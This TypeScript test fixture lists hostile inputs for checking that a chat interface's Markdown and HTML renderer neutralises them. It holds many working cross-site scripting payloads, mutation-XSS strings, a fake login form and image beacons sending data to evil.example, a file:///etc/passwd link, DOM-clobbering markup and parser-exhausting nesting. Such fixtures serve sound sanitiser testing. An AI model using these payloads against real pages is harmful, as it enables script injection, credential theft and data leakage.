/** A text that means harm. */
export interface Hostile {
  readonly text: string;
  /** What must still be seen in the end; by default every letter of the text. */
  readonly seen?: string;
}

const html = (...texts: string[]): Hostile[] => texts.map((text) => ({ text }));

/** Script, in all the places that HTML has for it. */
const script = html(
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  'a <script>alert(1)</script> b',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/i.png">',
  '<img srcset="https://evil.example/i.png 2x">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>text</details>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src="https://evil.example/a.mp3" autoplay></audio>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/o.swf"></object>',
  '<embed src="https://evil.example/e.swf">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="https://evil.example" ping="https://evil.example/ping">x</a>',
  '<div style="background:url(https://evil.example/b.png)">x</div>',
  '<x-element onclick=alert(1) tabindex=0 autofocus>x</x-element>',
);

/** Forms, styles, frames and names that take over the page around the answer. */
const takeover = html(
  '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
  '<input type=image src="https://evil.example/i.png">',
  '<button popovertarget=x>x</button><div popover id=x>y</div>',
  '<dialog open>Your session has ended</dialog>',
  '<textarea autofocus>x</textarea>',
  '<select><option>x</select>',
  '<style>@import "https://evil.example/s.css"; body { display: none }</style>',
  '<link rel=stylesheet href="https://evil.example/s.css">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<slot name=composer>x</slot><div slot=composer part=send>y</div>',
  '<div role=alert aria-live=assertive>x</div>',
  '<a id=location name=document>x</a><a id=location>y</a>',
  '<form id=attributes><input name=attributes><input name=nodeName></form>',
  '<img name=getElementById>',
  '<div class="unloaded-image table-scroll">x</div>',
  '<p id=taken name=taken title=x style="position:fixed" role=alert aria-live=assertive slot=x data-x=y>x</p>',
  '<a href="https://evil.example" id=taken name=taken class=send target=_self accesskey=s>x</a>',
  '<table id=taken background="https://evil.example/b.png" summary=x><td colspan=9 width=9999>x</td></table>',
);

/** What is left open and would swallow the rest. */
const open = html(
  '<style>',
  '<script>',
  '<template>',
  '<textarea>',
  '<title>',
  '<iframe>',
  '<noscript>',
  '<xmp>',
  '<plaintext>',
  '<select>',
  '<!-- comment',
  '<![CDATA[ x',
  '<? x',
  '<!DOCTYPE x',
  'word <b title="',
  'word <!-- comment',
  '<div\n\n',
);

/** Texts that change their meaning when they are parsed twice. */
const mutation = html(
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<template><s><template><s><img src=x onerror=alert(1)>@shafigullin</s></template></s></template>',
  '<a title="<!--"><img src=x onerror=alert(1)>-->',
  '<pre>**<img src=x onerror=alert(1)>**</pre> <img src=x onerror=alert(1)>',
  'a <pre>b <code><img src=x onerror=alert(1)></code></pre>',
  '`<img src=x onerror=alert(1)>`',
  '    <img src=x onerror=alert(1)>',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
  '# <img src=x onerror=alert(1)>',
);

/** Markdown of its own. */
const markdown: Hostile[] = [
  { text: '[click](javascript:alert(1))', seen: 'click' },
  { text: '[click](JaVaScRiPt:alert(1))', seen: 'click' },
  { text: '[click](java\\script:alert(1))', seen: 'click' },
  { text: '[click](&#106;avascript:alert(1))', seen: 'click' },
  { text: '[click](javascript&colon;alert(1))', seen: 'click' },
  { text: '[click](java&Tab;script:alert(1))', seen: 'click' },
  { text: '[click](<\u0001javascript:alert(1)>)', seen: 'click' },
  { text: '[click](data:text/html;base64,PHNjcmlwdD4=)', seen: 'click' },
  { text: '[click](vbscript:msgbox)', seen: 'click' },
  { text: '[click](blob:https://evil.example/x)', seen: 'click' },
  { text: '[click](file:///etc/passwd)', seen: 'click' },
  { text: '[click](/api/chat/generate?sessionId=1)', seen: 'click' },
  { text: '[click](//evil.example/x)', seen: 'click' },
  { text: '[click](/\\evil.example/x)', seen: 'click' },
  { text: '[click](\\\\\\\\evil.example/x)', seen: 'click' },
  { text: '[click](https://trusted.example@evil.example/)', seen: 'click' },
  { text: '<javascript:alert(1)>' },
  { text: '[click][x]\n\n[x]: javascript:alert(1)', seen: 'click' },
  { text: '[x]: javascript:alert(1)\n\n[click][x]', seen: 'click' },
  { text: '[click](https://ok.example "\\" onclick=alert(1) x=\\"")', seen: 'click' },
  { text: '[click](https://ok.example/"onmouseover="alert(1))', seen: 'click' },
  { text: '[<img src=x onerror=alert(1)>](https://ok.example)', seen: '<img src=x onerror=alert(1)>' },
  { text: '![picture](/api/chat/generate?sessionId=1)', seen: 'picture' },
  { text: '![picture](https://evil.example/i.png?secret)', seen: 'picture' },
  { text: '![picture](javascript:alert(1))', seen: 'picture' },
  { text: '![picture](x" onerror="alert(1))', seen: 'picture' },
  { text: '!["onerror="alert(1)](https://evil.example/i.png)', seen: '"onerror="alert(1)' },
  { text: '![<img src=x onerror=alert(1)>](x)', seen: '<img src=x onerror=alert(1)>' },
  { text: '![picture][i]\n\n[i]: https://evil.example/i.png?long=address', seen: 'picture' },
  { text: '`![picture](https://evil.example/i.png)', seen: 'picture' },
  { text: '- [x] <img src=x onerror=alert(1)>', seen: '<img src=x onerror=alert(1)>' },
  { text: '``` <img src=x onerror=alert(1)>\ncode\n```', seen: '' },
  { text: '```"><img/src=x/onerror=alert(1)>\ncode\n```', seen: 'code' },
  { text: '```x" onclick="alert(1)\ncode\n```', seen: 'code' },
  { text: '``` language-x unloaded-image\ncode\n```', seen: 'code' },
  { text: '&lt;img src=x onerror=alert(1)&gt;', seen: '<img src=x onerror=alert(1)>' },
  { text: '&#60;script&#62;alert(1)&#60;/script&#62;', seen: '<script>alert(1)</script>' },
  { text: '__proto__ [__proto__] [constructor]\n\n[__proto__]: https://ok.example', seen: 'proto constructor' },
  { text: '\u202Egnp.exe \u{E0061}\u{E0062}', seen: 'gnp exe' },
  { text: 'https://evil.example/a<script>alert(1)</script>' },
  { text: 'www.evil.example/"onclick="alert(1)' },
];

/** Texts that cost the parser much, or its stack. */
const deep: Hostile[] = [
  { text: `${'> '.repeat(5000)}deep`, seen: 'deep' },
  { text: `${'- '.repeat(5000)}deep`, seen: 'deep' },
  { text: `${'1. > '.repeat(1000)}deep`, seen: 'deep' },
  { text: `${Array.from({ length: 40 }, (_, index) => `${'>'.repeat(40 - index)}deep`).join('\n')}\nend`, seen: 'end' },
  { text: `${'['.repeat(1500)}deep${']'.repeat(1500)}`, seen: 'deep' },
  { text: `${'!['.repeat(500)}deep${'](x)'.repeat(500)}`, seen: 'deep' },
  { text: `${'*a **b '.repeat(300)}deep`, seen: 'deep' },
  { text: `${'*a **b '.repeat(300)}deep${' b** a*'.repeat(300)}`, seen: 'deep' },
  { text: `${'<b>'.repeat(1500)}deep`, seen: 'deep' },
  { text: `a ${'`'.repeat(1500)}deep`, seen: 'deep' },
  { text: `|${'a|'.repeat(500)}\n|${'-|'.repeat(500)}\n|deep|`, seen: 'deep' },
];

export const hostile: readonly Hostile[] = [...script, ...takeover, ...open, ...mutation, ...markdown, ...deep];
